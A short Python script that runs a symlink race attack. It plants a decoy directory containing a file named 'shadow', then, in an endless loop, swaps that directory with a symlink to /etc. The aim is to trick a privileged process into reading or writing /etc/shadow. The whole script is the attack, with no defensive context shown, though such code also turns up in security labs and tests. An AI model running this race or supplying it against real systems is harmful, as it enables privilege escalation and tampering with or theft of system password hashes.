"""Swaps a directory for a link to one of root's."""

import os

os.mkdir("there")
open("there/shadow", "w").write("mine")
os.symlink("/etc", "link")
os.rename("there", "here")
while True:
    os.rename("here", "there")
    os.rename("link", "here")
    os.rename("here", "link")
    os.rename("there", "here")
